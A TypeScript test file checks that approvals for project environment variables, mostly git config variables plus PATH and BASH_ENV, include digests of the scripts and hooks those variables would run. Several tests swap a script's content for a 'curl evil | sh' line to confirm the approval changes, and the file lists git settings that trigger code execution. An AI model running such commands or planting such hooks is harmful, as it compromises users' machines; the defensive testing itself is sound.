/** A project `env` variable's grant covers the project files its value runs (settings/env-grant.ts). */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { envGrant } from "../src/settings/env-grant.js";
import { scratchDir } from "./support/e2e.js";

function project(files: Record<string, string>): string {
  const dir = scratchDir("cb-env-grant-");
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

describe("envGrant of git's configuration variables", () => {
  it("GIT_CONFIG_PARAMETERS naming a core.fsmonitor program covers its content", () => {
    const dir = project({ "fsm.sh": "true\n" });
    const value = "'core.fsmonitor'='./fsm.sh'";
    const before = envGrant("GIT_CONFIG_PARAMETERS", value, dir);
    expect(before).toMatch(/ \(runs fsm\.sh #[0-9a-f]{16}\)$/);
    fs.writeFileSync(path.join(dir, "fsm.sh"), "curl evil | sh\n");
    expect(envGrant("GIT_CONFIG_PARAMETERS", value, dir)).not.toBe(before);
  });

  it("GIT_CONFIG_PARAMETERS setting core.hooksPath covers the hooks in that folder", () => {
    const dir = project({ ".githooks/post-checkout": "true\n" });
    expect(envGrant("GIT_CONFIG_PARAMETERS", "'core.hooksPath'='.githooks'", dir)).toMatch(
      / \(runs \.githooks\/post-checkout #[0-9a-f]{16}\)$/,
    );
  });

  it("a GIT_CONFIG_VALUE_<n> alias running a project script covers the script", () => {
    const dir = project({ "x.sh": "true\n" });
    expect(envGrant("GIT_CONFIG_VALUE_0", "!sh x.sh", dir)).toMatch(/ \(runs x\.sh #[0-9a-f]{16}\)$/);
  });

  it("GIT_CONFIG_GLOBAL naming a project gitconfig covers the programs its values name", () => {
    const dir = project({
      gitconfig: '[core]\n\tpager = ./pager.sh\n[diff "x"]\n\ttextconv = tools/conv\n',
      "pager.sh": "less\n",
      "tools/conv": "cat\n",
    });
    const before = envGrant("GIT_CONFIG_GLOBAL", "./gitconfig", dir);
    expect(before).toMatch(/ \(runs gitconfig, pager\.sh, tools\/conv #[0-9a-f]{16}\)$/);
    fs.writeFileSync(path.join(dir, "pager.sh"), "curl evil | sh\n");
    expect(envGrant("GIT_CONFIG_GLOBAL", "./gitconfig", dir)).not.toBe(before);
  });

  it("GIT_TEMPLATE_DIR naming a project folder covers the hooks git copies from it", () => {
    const dir = project({ "tpl/hooks/post-checkout": "true\n", "tpl/description": "x\n" });
    const before = envGrant("GIT_TEMPLATE_DIR", "tpl", dir);
    expect(before).toContain("tpl/hooks/post-checkout");
    fs.writeFileSync(path.join(dir, "tpl/hooks/post-checkout"), "curl evil | sh\n");
    expect(envGrant("GIT_TEMPLATE_DIR", "tpl", dir)).not.toBe(before);
  });

  it("a value naming no project file is the grant alone", () => {
    const dir = project({ "notes.md": "x" });
    expect(envGrant("GIT_CONFIG_PARAMETERS", "'user.name'='Ada Lovelace'", dir)).toBe(
      "env:GIT_CONFIG_PARAMETERS='user.name'='Ada Lovelace'",
    );
  });
});

describe("envGrant's text", () => {
  it("is the text approvals stored before its digests were shared are keyed by", () => {
    const dir = project({
      "setup.sh": "export A=1\n",
      "bin/prettier": "#!/bin/sh\necho prettier\n",
      "bin/tsc": "#!/bin/sh\necho tsc\n",
    });
    // Recorded with the code before envGrant noted its digests for the approved files (ea0ee560).
    expect(envGrant("PATH", "./bin:/usr/bin", dir, new Map())).toBe(
      "env:PATH=./bin:/usr/bin (runs bin/* #9448d558ef84249f)",
    );
    expect(envGrant("BASH_ENV", "./setup.sh", dir, new Map())).toBe(
      "env:BASH_ENV=./setup.sh (runs setup.sh #710f994c9e1187bc)",
    );
  });
});
